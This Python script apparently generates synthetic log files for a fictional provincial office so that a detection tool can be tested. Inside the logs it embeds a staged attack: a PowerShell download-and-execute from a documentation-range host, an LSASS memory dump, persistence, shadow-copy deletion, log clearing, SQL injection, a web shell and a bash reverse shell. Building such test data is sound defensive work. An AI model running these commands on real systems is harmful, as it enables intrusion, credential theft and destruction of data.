"""Make the sample recording: a day of an invented province office, with one attack in it.

    python samples/make_recording.py [OUT_DIR]

Every host, person and address is invented (addresses are from the ranges for documentation). The
result is the same each time.
"""

from __future__ import annotations

import gzip
import json
import random
import sys
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

DAY = datetime(2026, 3, 2, tzinfo=UTC)
SYSTEM32 = "C:\\Windows\\System32\\"
SYSMON = "Microsoft-Windows-Sysmon/Operational"
ATTACKER = "203.0.113.66"
UNITS = ("so-y-te", "so-tai-chinh", "so-giao-duc", "van-phong")
Timed = tuple[datetime, str]


def stamp(moment: datetime) -> str:
    """RFC 3339 in UTC."""
    return f"{moment:%Y-%m-%dT%H:%M:%S}.{moment.microsecond // 1000:03d}Z"


def at(hour: int, minute: int, second: int = 0) -> datetime:
    """A moment of the day."""
    return DAY + timedelta(hours=hour, minutes=minute, seconds=second)


def windows(moment: datetime, host: str, channel: str, event_id: int, **fields: object) -> Timed:
    """One flat Windows record."""
    record = {
        "TimeCreated": stamp(moment),
        "Channel": channel,
        "EventID": event_id,
        "Computer": host,
        **fields,
    }
    return moment, json.dumps(record)


def process(moment: datetime, host: str, user: str, image: str, command: str, parent: str) -> Timed:
    """A process creation as Sysmon records it."""
    return windows(
        moment, host, SYSMON, 1, Image=image, CommandLine=command, ParentImage=parent, User=user,
        ProcessId=4000 + moment.second, IntegrityLevel="Medium",
    )  # fmt: skip


def windows_background(draw: random.Random) -> Iterator[Timed]:
    """What machines do all day."""
    for _ in range(1500):
        unit = draw.choice(UNITS)
        host = f"{unit}-pc{draw.randint(1, 9):02d}.tinh.example"
        user = f"TINH\\nv.{unit[:4]}{draw.randint(1, 9)}"
        moment = DAY + timedelta(seconds=draw.uniform(0, 86_000))
        which = draw.random()
        if which < 0.5:
            image, command = draw.choice(
                [
                    (f"{SYSTEM32}svchost.exe", "svchost.exe -k netsvcs -p"),
                    (
                        "C:\\Program Files\\Office\\WINWORD.EXE",
                        "WINWORD.EXE C:\\Users\\Documents\\to-trinh.docx",
                    ),
                    ("C:\\Program Files\\Browser\\browser.exe", "browser.exe --type=renderer"),
                    (f"{SYSTEM32}taskhostw.exe", "taskhostw.exe"),
                ]
            )
            yield process(moment, host, user, image, command, f"{SYSTEM32}services.exe")
        elif which < 0.75:
            yield windows(
                moment,
                host,
                "Security",
                4624,
                TargetUserName=user.split("\\")[1],
                LogonType=3,
                IpAddress="10.1.0.5",
            )
        else:
            yield windows(
                moment, host, SYSMON, 13, EventType="SetValue", Image=f"{SYSTEM32}svchost.exe",
                TargetObject="HKLM\\System\\CurrentControlSet\\Services\\W32Time\\Config\\LastClockRate", Details="DWORD (0x0)",
            )  # fmt: skip


def windows_attack() -> Iterator[Timed]:
    """Phishing to credentials to the server to a cleared log."""
    host, server, user = "so-y-te-pc04.tinh.example", "so-y-te-sv01.tinh.example", "TINH\\nv.so-y4"
    shell = f"{SYSTEM32}WindowsPowerShell\\v1.0\\powershell.exe"
    word = "C:\\Program Files\\Office\\WINWORD.EXE"
    encoded = "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"
    yield process(at(2, 14), host, user, f"{SYSTEM32}cmd.exe", f"cmd /c {encoded}", word)
    yield process(at(2, 14, 2), host, user, shell, encoded, f"{SYSTEM32}cmd.exe")
    yield windows(
        at(2, 14, 3), host, "Microsoft-Windows-PowerShell/Operational", 4104,
        ScriptBlockText=f"IEX (New-Object Net.WebClient).DownloadString('http://{ATTACKER}/s')",
    )  # fmt: skip
    for second, name in enumerate(("whoami", "net", "ipconfig", "systeminfo", "nltest", "tasklist")):
        yield process(at(2, 20, second * 7), host, user, f"{SYSTEM32}{name}.exe", name, shell)
    yield windows(
        at(2, 24), host, SYSMON, 13, EventType="SetValue", Image=shell,
        TargetObject="HKU\\S-1-5-21-7\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\CapNhat",
        Details="C:\\Users\\nv.so-y4\\AppData\\Roaming\\capnhat.exe",
    )  # fmt: skip
    yield process(
        at(2, 31),
        host,
        user,
        f"{SYSTEM32}rundll32.exe",
        "rundll32 C:\\Windows\\System32\\comsvcs.dll, MiniDump 612 C:\\Users\\Public\\l.bin full",
        shell,
    )
    for second in range(14):
        yield windows(
            at(3, 2, second * 3),
            server,
            "Security",
            4625,
            TargetUserName=f"nv.user{second}",
            IpAddress="10.1.0.44",
        )
    yield windows(
        at(3, 10),
        server,
        "System",
        7045,
        ServiceName="BTOBTO",
        ImagePath="%COMSPEC% /Q /c echo cd ^> \\\\127.0.0.1\\C$\\__output",
    )
    yield process(
        at(3, 12),
        server,
        "NT AUTHORITY\\SYSTEM",
        f"{SYSTEM32}vssadmin.exe",
        "vssadmin delete shadows /all /quiet",
        f"{SYSTEM32}cmd.exe",
    )
    yield windows(at(3, 40), server, "Security", 1102, SubjectUserName="nv.so-y4")


def syslog(draw: random.Random) -> Iterator[Timed]:
    """A Linux portal server's auth log (written in UTC)."""
    for _ in range(400):
        moment = DAY + timedelta(seconds=draw.uniform(0, 86_000))
        yield (
            moment,
            f"{moment:%b} {moment.day:2d} {moment:%H:%M:%S} cong-dvc01 CRON[{draw.randint(900, 9000)}]: (root) CMD (/usr/lib/sysstat/sa1 1 1)",
        )
    for count in range(40):
        moment = at(1, 30, 0) + timedelta(seconds=count * 9)
        yield (
            moment,
            f"{moment:%b} {moment.day:2d} {moment:%H:%M:%S} cong-dvc01 sshd[811]: Failed password for invalid user admin from {ATTACKER} port {40000 + count} ssh2",
        )
    moment = at(4, 6)
    yield (
        moment,
        f"{moment:%b} {moment.day:2d} {moment:%H:%M:%S} cong-dvc01 sshd[977]: Accepted password for root from {ATTACKER} port 50211 ssh2",
    )


def audit() -> Iterator[Timed]:
    """The portal's audit log: a web shell at work."""
    for number, (minute, command) in enumerate(
        ((1, "whoami"), (2, "cat /etc/passwd"), (4, "bash -i >& /dev/tcp/203.0.113.66/443 0>&1"))
    ):
        moment = at(4, minute)
        key = f"audit({moment.timestamp():.3f}:{700 + number})"
        parts = ["sh", "-c", *command.split(" ")]
        arguments = " ".join(f'a{place}="{part}"' for place, part in enumerate(parts))
        yield (
            moment,
            f'type=SYSCALL msg={key}: arch=c000003e syscall=59 success=yes exit=0 ppid=80 pid={900 + number} auid=4294967295 uid=33 comm="sh" exe="/usr/bin/dash" key="exec"',
        )
        yield moment, f"type=EXECVE msg={key}: argc={len(parts)} {arguments}"
        yield moment, f"type=EOE msg={key}: "


def web(draw: random.Random) -> Iterator[Timed]:
    """The portal's access log."""

    def line(moment: datetime, address: str, path: str, status: int, agent: str = "Mozilla/5.0") -> Timed:
        return (
            moment,
            f'{address} - - [{moment:%d/%b/%Y:%H:%M:%S} +0000] "GET {path} HTTP/1.1" {status} {draw.randint(200, 9000)} "-" "{agent}"',
        )

    for _ in range(1200):
        moment = DAY + timedelta(seconds=draw.uniform(0, 86_000))
        yield line(
            moment,
            f"198.51.100.{draw.randint(1, 250)}",
            draw.choice(("/", "/dich-vu", "/tra-cuu?ma=12", "/tin/5")),
            200,
        )
    for count in range(12):
        yield line(at(3, 50, count), ATTACKER, f"/tra-cuu?ma={count}%20union%20select%201,2,3", 500, "sqlmap/1.8")
    yield line(at(3, 58), ATTACKER, "/uploads/shell.php?c=whoami", 200)


def zeek(draw: random.Random) -> Iterator[Timed]:
    """Connections at the border: a beacon among others."""

    def connection(moment: datetime, source: str, target: str, port: int, sent: int) -> Timed:
        record = {
            "_path": "conn", "ts": moment.timestamp(), "uid": f"C{draw.getrandbits(48):x}", "id.orig_h": source, "id.orig_p": 50000,
            "id.resp_h": target, "id.resp_p": port, "proto": "tcp", "conn_state": "SF", "orig_bytes": sent,
        }  # fmt: skip
        return moment, json.dumps(record)

    for _ in range(900):
        moment = DAY + timedelta(seconds=draw.uniform(0, 86_000))
        yield connection(
            moment,
            f"10.1.0.{draw.randint(10, 90)}",
            f"198.51.100.{draw.randint(1, 250)}",
            443,
            draw.randint(300, 90_000),
        )
    for count in range(180):
        yield connection(
            at(2, 15) + timedelta(seconds=count * 60 + draw.uniform(-3, 3)), "10.1.0.44", ATTACKER, 443, 640
        )


def main() -> None:
    """Write the files."""
    out = Path(sys.argv[1]) if len(sys.argv) > 1 else Path(__file__).parent / "province-day"
    out.mkdir(parents=True, exist_ok=True)
    draw = random.Random(20260302)
    streams = {
        "windows.ndjson": [*windows_background(draw), *windows_attack()],
        "cong-dvc01-auth.log": list(syslog(draw)),
        "cong-dvc01-audit.log": list(audit()),
        "cong-dvc01-access.log": list(web(draw)),
        "border-conn.json.gz": list(zeek(draw)),
    }
    for name, timed in streams.items():
        timed.sort(key=lambda each: each[0])
        data = "".join(f"{line}\n" for _, line in timed).encode()
        (out / name).write_bytes(gzip.compress(data, 9, mtime=0) if name.endswith(".gz") else data)


if __name__ == "__main__":
    main()
